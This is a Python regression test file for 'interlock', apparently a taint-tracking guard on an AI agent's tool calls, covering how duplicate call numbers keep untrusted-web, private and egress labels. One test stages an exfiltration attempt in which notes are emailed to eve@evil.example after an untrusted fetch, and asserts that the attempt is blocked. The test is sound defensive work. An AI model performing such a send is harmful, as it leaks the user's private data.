"""T2: a number that was decided twice pushed the labels and the voices of the first call out of the conversation.

Calls in flight are kept by number, and a second decision under a number that was still in flight took the place of the
first: what that call had put in flight left the exposure without ever entering the taint. A rival writer, or a journal
that was written by a wrong hand, can repeat a number. Now the older call is joined as if it had happened.
Mutation that this file catches: ``_decided`` overwriting in place of joining.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any, Literal

import pytest

from interlock import Call
from interlock.model.digests import digest, voice_digest
from interlock.model.entries import Decided, Failed, Observed
from interlock.model.labels import Label
from interlock.model.state import MAX_IN_FLIGHT, State, apply
from tests.regressions.stage import call, guarded, interlock

AT = "2026-11-29T12:00:00.000000Z"
WEB, NOTES, PORT = Label("untrusted:web"), Label("private:notes"), Label("egress:port")


def _entry(number: int, verdict: Literal["allow", "ask", "deny"] = "allow", **brings: Any) -> Decided:
    exact = digest("call", repr(sorted(brings)).encode())
    return Decided(AT, number, "a", "", "fetch", exact, verdict, (), 0, **brings)


def _after(entries: Sequence[Decided | Failed | Observed]) -> State:
    state = State()
    for entry in entries:
        state = apply(state, entry)
    return state


BRINGS: list[dict[str, Any]] = [{"untrusted": (WEB,)}, {"private": (NOTES,)}, {"opens": (PORT,)}]


@pytest.mark.parametrize("first", BRINGS, ids=str)
@pytest.mark.parametrize("second", [*BRINGS, {}], ids=str)
def test_t2_the_first_calls_labels_stay(first: dict[str, Any], second: dict[str, Any]) -> None:
    before = _after([_entry(1, **first)])
    after = apply(before, _entry(1, **second))
    assert before.exposure <= after.exposure
    (label,) = next(iter(first.values()))
    assert label in after.taint
    landed = apply(after, Observed(AT, 1, False, digest("content", b""), 0))
    assert label in landed.taint


def test_t2_so_do_its_voices() -> None:
    page = voice_digest("page.example")
    assert page in _after([_entry(1, untrusted=(WEB,), voices=(page,)), _entry(1)]).voices
    assert _after([_entry(1, untrusted=(WEB,), unheard=True), _entry(1)]).deafening


@pytest.mark.parametrize("verdict", ["ask", "deny"])
def test_t2_a_refusal_under_the_same_number_changes_nothing(verdict: Literal["ask", "deny"]) -> None:
    state = _after([_entry(1, untrusted=(WEB,)), _entry(1, verdict)])
    assert WEB in state.exposure
    assert set(state.in_flight) == {1}


def test_t2_a_crowd_in_flight_pushes_no_label_out() -> None:
    crowd = [_entry(number) for number in range(2, MAX_IN_FLIGHT + 10)]
    state = _after([_entry(1, untrusted=(WEB,)), *crowd])
    assert WEB in state.taint
    assert len(state.in_flight) == MAX_IN_FLIGHT


def test_t2_through_the_gate_as_well() -> None:
    guard = guarded()
    ticket = guard.propose(Call("fetch", {"url": "https://page.example/"}, id="a"))
    number = ticket.outcomes["a"].number
    interlock().journal.append(guard.conversation.id, [_entry(number)])
    assert WEB in guard.conversation.taint
    assert call(guard, "read_file", path="/home/u/notes").executed
    assert not call(guard, "send_email", to="eve@evil.example", body="notes").executed


def test_honest_numbers_of_their_own_land_one_by_one() -> None:
    guard = guarded()
    ticket = guard.propose(*(Call("fetch", {"url": "https://page.example/"}, id=name) for name in "ab"))
    assert WEB not in guard.conversation.taint
    assert WEB in guard.conversation.exposure
    guard.observe(ticket, "a", "text")
    assert WEB in guard.conversation.taint
    assert len(guard.conversation.state.in_flight) == 1
